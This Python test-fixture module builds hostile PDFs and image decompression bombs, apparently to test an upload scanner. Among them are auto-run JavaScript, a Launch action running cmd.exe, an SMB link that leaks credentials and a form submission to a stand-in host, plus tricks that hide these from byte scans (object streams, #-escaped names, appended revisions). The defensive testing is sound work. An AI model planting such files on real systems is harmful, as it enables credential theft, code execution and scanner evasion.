"""Files an attacker uploads, built with the libraries a real attacker would use: pikepdf
(qpdf) for PDFs with active content, Pillow for images whose header promises a huge picture.

Each builder starts from a clean one-page PDF and adds one kind of active content, often where
a naive scan of the bytes cannot see it: inside a compressed object stream and behind an
indirect reference.
"""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String
from PIL import Image

#: The names an attacker hides; none of them may be visible in the bytes of a "hidden" PDF.
TELLTALES = (b"/JavaScript", b"/JS", b"/OpenAction", b"/Launch", b"/AA", b"/EmbeddedFile")


def clean_pdf() -> Pdf:
    pdf = Pdf.new()
    pdf.add_blank_page(page_size=(300, 100))
    return pdf


def saved(pdf: Pdf, *, hidden: bool = True) -> bytes:
    """The PDF's bytes; ``hidden`` puts every object it can into compressed object streams."""
    out = io.BytesIO()
    mode = pikepdf.ObjectStreamMode.generate if hidden else pikepdf.ObjectStreamMode.disable
    pdf.save(out, object_stream_mode=mode, compress_streams=True)
    return out.getvalue()


def _javascript(pdf: Pdf, code: str = "app.alert('diretas')") -> pikepdf.Object:
    """A JavaScript action as its own (indirect) object, so it can land in an object stream."""
    return pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String(code)))


def open_action_javascript_direct() -> bytes:
    """``/OpenAction << /S /JavaScript /JS (...) >>`` written plainly in the catalog."""
    pdf = clean_pdf()
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    return saved(pdf, hidden=False)


def open_action_javascript_hidden() -> bytes:
    """The catalog's /OpenAction points at a JavaScript action compressed in an object stream."""
    pdf = clean_pdf()
    pdf.Root.OpenAction = _javascript(pdf)
    return saved(pdf)


def javascript_name_tree() -> bytes:
    """Document-level JavaScript: the /Names /JavaScript tree, run when the file opens."""
    pdf = clean_pdf()
    tree = pdf.make_indirect(Dictionary(Names=Array([String("mulai"), _javascript(pdf)])))
    pdf.Root.Names = pdf.make_indirect(Dictionary(JavaScript=tree))
    return saved(pdf)


def page_open_additional_action() -> bytes:
    """A page's /AA: JavaScript that runs when the page is shown."""
    pdf = clean_pdf()
    pdf.pages[0].obj.AA = pdf.make_indirect(Dictionary(O=_javascript(pdf)))
    return saved(pdf)


def _link(pdf: Pdf, action: pikepdf.Object) -> None:
    link = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 300, 100]), Border=Array([0, 0, 0])
    )
    link.A = action
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])


def launch_action() -> bytes:
    """A link that launches a program (``cmd.exe``) when clicked."""
    pdf = clean_pdf()
    launch = Dictionary(S=Name.Launch, Win=Dictionary(F=String("cmd.exe"), P=String("/c calc")))
    _link(pdf, pdf.make_indirect(launch))
    return saved(pdf)


def remote_goto_action() -> bytes:
    """A link to a file on another machine (leaks Windows credentials over SMB)."""
    pdf = clean_pdf()
    remote = Dictionary(S=Name.GoToR, F=String("\\\\198.51.100.7\\share\\x.pdf"), D=Array([0]))
    _link(pdf, pdf.make_indirect(remote))
    return saved(pdf)


def embedded_file() -> bytes:
    """A program attached to the document (the /EmbeddedFiles name tree)."""
    pdf = clean_pdf()
    pdf.attachments["petunjuk.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00" + b"\x00" * 60)
    return saved(pdf)


def file_attachment_annotation() -> bytes:
    """A file attached to a page through a /FileAttachment annotation."""
    pdf = clean_pdf()
    spec = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00" + b"\x00" * 60, filename="foto.scr")
    annotation = Dictionary(
        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 20, 20])
    )
    annotation.FS = spec.obj
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(annotation)])
    return saved(pdf)


def rich_media_annotation() -> bytes:
    """A /RichMedia (Flash-era) annotation that plays content inside the reader."""
    pdf = clean_pdf()
    content = pdf.make_indirect(Dictionary(Assets=Dictionary(Names=Array([]))))
    annotation = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 100, 100]))
    annotation.RichMediaContent = content
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(annotation)])
    return saved(pdf)


def xfa_form() -> bytes:
    """An XFA form (its own scripting, not rendered by browsers) in the AcroForm."""
    pdf = clean_pdf()
    packet = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'></xdp:xdp>")
    pdf.Root.AcroForm = pdf.make_indirect(Dictionary(Fields=Array([]), XFA=packet))
    return saved(pdf)


def open_action_submit_form() -> bytes:
    """An action run on opening that sends the form's data to a server."""
    pdf = clean_pdf()
    submit = Dictionary(S=Name.SubmitForm, F=String("https://198.51.100.7/ambil"))
    pdf.Root.OpenAction = pdf.make_indirect(submit)
    return saved(pdf)


def open_action_goto_then_uri() -> bytes:
    """An innocent-looking /GoTo on opening whose /Next opens a web address by itself."""
    pdf = clean_pdf()
    uri = pdf.make_indirect(Dictionary(S=Name.URI, URI=String("https://198.51.100.7/lacak")))
    goto = Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=uri)
    pdf.Root.OpenAction = pdf.make_indirect(goto)
    return saved(pdf)


def javascript_after_clean_revision() -> bytes:
    """A clean file with an appended revision (a real incremental update, as signing tools
    write them) that adds JavaScript run on opening. The first revision alone is harmless."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    writer = IncrementalPdfFileWriter(io.BytesIO(saved(clean_pdf(), hidden=False)))
    action = generic.DictionaryObject(
        {
            generic.NameObject("/S"): generic.NameObject("/JavaScript"),
            generic.NameObject("/JS"): generic.TextStringObject("app.alert(1)"),
        }
    )
    writer.root[generic.NameObject("/OpenAction")] = writer.add_object(action)
    writer.update_root()
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def escaped_names() -> bytes:
    """``/S /J#61vaScript /J#53 (...)``: the names spelt with #-escapes, so a plain search for
    ``/JavaScript`` misses them (readers decode the escapes). Built byte by byte with a
    correct cross-reference table, since qpdf always writes names unescaped."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /Open#41ction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 100] /Resources << >> >>",
        b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


#: Every hostile PDF, by the name the tests show.
HOSTILE_PDFS: dict[str, Callable[[], bytes]] = {
    "open_action_javascript": open_action_javascript_direct,
    "open_action_javascript_in_object_stream": open_action_javascript_hidden,
    "javascript_name_tree": javascript_name_tree,
    "page_additional_action": page_open_additional_action,
    "launch_action": launch_action,
    "remote_goto_action": remote_goto_action,
    "embedded_file": embedded_file,
    "file_attachment_annotation": file_attachment_annotation,
    "rich_media": rich_media_annotation,
    "xfa_form": xfa_form,
    "open_action_submit_form": open_action_submit_form,
    "open_action_goto_then_uri": open_action_goto_then_uri,
    "javascript_in_appended_revision": javascript_after_clean_revision,
    "escaped_names": escaped_names,
}


# -- harmless PDFs that look a little like the hostile ones --------------------------------


def open_at_first_page() -> bytes:
    """``/OpenAction [page /Fit]``: many scanners write this; it only says where to open."""
    pdf = clean_pdf()
    pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])
    return saved(pdf)


def link_to_website() -> bytes:
    """A link the reader follows only when clicked (e.g. the agency's website)."""
    pdf = clean_pdf()
    _link(pdf, Dictionary(S=Name.URI, URI=String("https://disdukcapil.bandung.go.id")))
    return saved(pdf)


def owner_password_only() -> bytes:
    """Opens without a password; only printing or copying is restricted (common for letters)."""
    out = io.BytesIO()
    clean_pdf().save(
        out,
        encryption=pikepdf.Encryption(
            owner="pemilik-rahasia", user="", allow=pikepdf.Permissions(extract=False)
        ),
    )
    return out.getvalue()


def user_password() -> bytes:
    """Needs a password to open at all: neither Simpul nor an officer can read it."""
    out = io.BytesIO()
    clean_pdf().save(out, encryption=pikepdf.Encryption(owner="pemilik", user="buka-saja"))
    return out.getvalue()


def broken_cross_reference() -> bytes:
    """A readable PDF whose cross-reference table points at the wrong places (readers repair
    it, each in its own way)."""
    data = saved(clean_pdf(), hidden=False)
    return data.replace(b"%PDF-1.3\n", b"%PDF-1.3\n%% padding that shifts every object\n", 1)


# -- images ---------------------------------------------------------------------------------


def png_of(width: int, height: int, mode: str = "1") -> bytes:
    """A real PNG of ``width`` x ``height`` (bilevel by default: tiny on disk, huge in memory)."""
    out = io.BytesIO()
    Image.new(mode, (width, height)).save(out, format="PNG", optimize=False)
    return out.getvalue()


def jpeg_of(width: int, height: int) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), (200, 180, 160)).save(out, format="JPEG", quality=80)
    return out.getvalue()


def jpeg_claiming(width: int, height: int) -> bytes:
    """A small real JPEG whose frame header (SOF0) claims ``width`` x ``height``: the classic
    bomb, a few hundred bytes that a viewer would try to decode into gigabytes."""
    data = bytearray(jpeg_of(16, 16))
    start = data.index(b"\xff\xc0")  # SOF0: marker, length (2), precision (1), height, width
    struct.pack_into(">HH", data, start + 5, height, width)
    return bytes(data)


def png_claiming(width: int, height: int) -> bytes:
    """A small real PNG whose header (IHDR, with a correct checksum) claims ``width`` x
    ``height``."""
    data = bytearray(png_of(16, 16))
    assert data[12:16] == b"IHDR"
    struct.pack_into(">II", data, 16, width, height)
    struct.pack_into(">I", data, 29, zlib.crc32(bytes(data[12:29])))
    return bytes(data)
